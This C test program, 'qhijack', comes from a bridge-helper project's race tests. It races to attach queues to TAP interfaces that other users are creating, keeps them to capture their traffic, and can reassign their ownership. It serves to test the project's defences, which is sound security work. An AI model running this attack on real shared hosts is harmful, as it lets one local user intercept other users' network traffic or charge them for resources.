/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Copyright (C) 2026 The bridge-helper authors */
/* qhijack: the queue-hijack attacker of SECURITY.md, for tests/race.bats.
 *
 *   qhijack [--spin=N] [--give=UID] [--once] [--seconds=S] [--max=M]
 *
 * Run as a user who may open /dev/net/tun. Tries to attach a queue to TAPs
 * that other users' launches are making, the two ways a local user can:
 *  - watching: an rtnetlink socket on RTNLGRP_LINK, polled without sleeping,
 *    so that every new link is seen while its creator still holds the rtnl
 *    lock; each new tun/tap link is tried at once, by name, as a multi-queue
 *    TAP (IFF_TAP|IFF_NO_PI|IFF_MULTI_QUEUE) and as a single-queue one, until
 *    the kernel refuses (EPERM: it has an owner; EINVAL, EBUSY ...);
 *  - spinning (--spin=N): TUNSETIFF in a loop on the names the kernel's
 *    "tap%d" would give next, tap0 .. tap<N-1>.
 * Every queue it gets it keeps (up to M, default 1024), as an attacker who
 * wants the victim's traffic would; with --give=UID it also makes UID the
 * TAP's owner (TUNSETOWNER, which any queue holder may do: "gave NAME to
 * UID"), as one who wants to charge UID's quota would. With --once it
 * stops trying after its first queue (for tests that need exactly one).
 * It prints "ready pid=PID" once it watches (PID: the one to send SIGTERM
 * to), one "attached NAME" line per queue it got, and at the end (after S
 * seconds, default 60, or on SIGTERM/SIGINT):
 *   attached=N alive=K tries=T eperm=A ebusy=B einval=C other=D
 * where ALIVE counts the queues still attached to a device at the end (a
 * queue whose device was deleted under it reports EBADFD). Exit 0. */
#include <errno.h>
#include <fcntl.h>
#include <linux/if_link.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static int held[1024];
static unsigned nheld, maxheld = 1024;
static unsigned long tries, eperm, ebusy, einval, other;
static long give = -1;
static bool once;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* One TUNSETIFF by NAME with FLAGS; 1: attached (kept), 0: refused. */
static int try_attach(const char *name, short flags)
{
	struct ifreq ifr;
	int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

	if (fd < 0) {
		other++;
		return 0;
	}
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", name);
	ifr.ifr_flags = flags;
	tries++;
	if (ioctl(fd, TUNSETIFF, &ifr) == 0) {
		printf("attached %s%s\n", name,
		       flags & IFF_MULTI_QUEUE ? "" : " (single queue)");
		if (give >= 0 && ioctl(fd, TUNSETOWNER, (unsigned long)give) == 0)
			printf("gave %s to %ld\n", name, give);
		fflush(stdout);
		if (nheld < maxheld) {
			held[nheld++] = fd;
			return 1;
		}
		close(fd);
		return 1;
	}
	if (errno == EPERM)
		eperm++;
	else if (errno == EBUSY)
		ebusy++;
	else if (errno == EINVAL)
		einval++;
	else
		other++;
	close(fd);
	return 0;
}

/* Attack NAME while the kernel lets us try: a handful of rounds of both
 * kinds of TUNSETIFF, since the first may come before the creator's
 * TUNSETIFF has even returned. */
static void attack(const char *name)
{
	if (once && nheld > 0)
		return;
	for (int round = 0; round < 8; round++) {
		if (try_attach(name, IFF_TAP | IFF_NO_PI | IFF_MULTI_QUEUE))
			return;
		if (try_attach(name, IFF_TAP | IFF_NO_PI))
			return;
	}
}

static bool is_tun(struct ifinfomsg *ifi, int len, char *name)
{
	bool tun = false;

	name[0] = '\0';
	for (struct rtattr *a = IFLA_RTA(ifi); RTA_OK(a, len); a = RTA_NEXT(a, len)) {
		if (a->rta_type == IFLA_IFNAME && RTA_PAYLOAD(a) <= IFNAMSIZ) {
			memcpy(name, RTA_DATA(a), RTA_PAYLOAD(a));
			name[IFNAMSIZ - 1] = '\0';
		} else if (a->rta_type == IFLA_LINKINFO) {
			int n = (int)RTA_PAYLOAD(a);

			for (struct rtattr *b = RTA_DATA(a); RTA_OK(b, n); b = RTA_NEXT(b, n))
				if (b->rta_type == IFLA_INFO_KIND &&
				    RTA_PAYLOAD(b) >= 4 && !memcmp(RTA_DATA(b), "tun", 4))
					tun = true;
		}
	}
	return tun && name[0];
}

/* Read every queued notification; attack each new tun/tap link. */
static void watch(int nl)
{
	static char buf[65536] __attribute__((aligned(NLMSG_ALIGNTO)));
	char name[IFNAMSIZ];
	ssize_t n;

	while ((n = recv(nl, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		int len = (int)n;

		for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, len);
		     h = NLMSG_NEXT(h, len)) {
			struct ifinfomsg *ifi = NLMSG_DATA(h);
			int alen = (int)h->nlmsg_len - (int)NLMSG_LENGTH(sizeof(*ifi));

			if (h->nlmsg_type != RTM_NEWLINK || alen < 0)
				continue;
			if (is_tun(ifi, alen, name))
				attack(name);
		}
	}
}

static int open_watch(void)
{
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = RTMGRP_LINK };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	int big = 4 << 20;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static unsigned long arg_num(const char *s, const char *opt)
{
	char *end;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 10);
	if (errno || end == s || *end) {
		fprintf(stderr, "qhijack: bad %s\n", opt);
		exit(2);
	}
	return v;
}

int main(int argc, char **argv)
{
	unsigned long spin = 0, seconds = 60;
	struct sigaction sa = { .sa_handler = on_signal };
	struct timespec now, end;
	unsigned alive = 0;
	int nl;

	for (int i = 1; i < argc; i++) {
		if (!strncmp(argv[i], "--spin=", 7))
			spin = arg_num(argv[i] + 7, "--spin");
		else if (!strncmp(argv[i], "--seconds=", 10))
			seconds = arg_num(argv[i] + 10, "--seconds");
		else if (!strncmp(argv[i], "--give=", 7))
			give = (long)arg_num(argv[i] + 7, "--give");
		else if (!strcmp(argv[i], "--once"))
			once = true;
		else if (!strncmp(argv[i], "--max=", 6))
			maxheld = (unsigned)arg_num(argv[i] + 6, "--max");
		else {
			fprintf(stderr, "usage: qhijack [--spin=N] [--give=UID] [--once] "
				"[--seconds=S] [--max=M]\n");
			return 2;
		}
	}
	if (maxheld > 1024 || spin > 1000)
		return 2;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	nl = open_watch();
	if (nl < 0) {
		perror("qhijack: rtnetlink");
		return 1;
	}
	printf("ready pid=%d\n", (int)getpid());
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += (time_t)seconds;
	while (!stop) {
		watch(nl);
		for (unsigned long k = 0; k < spin; k++) {
			char name[IFNAMSIZ];

			snprintf(name, sizeof(name), "tap%lu", k);
			try_attach(name, IFF_TAP | IFF_NO_PI | IFF_MULTI_QUEUE);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec > end.tv_sec ||
		    (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec))
			break;
	}
	for (unsigned i = 0; i < nheld; i++) {
		struct ifreq ifr;

		if (ioctl(held[i], TUNGETIFF, &ifr) == 0)
			alive++;
	}
	printf("attached=%u alive=%u tries=%lu eperm=%lu ebusy=%lu einval=%lu other=%lu\n",
	       nheld, alive, tries, eperm, ebusy, einval, other);
	return 0;
}
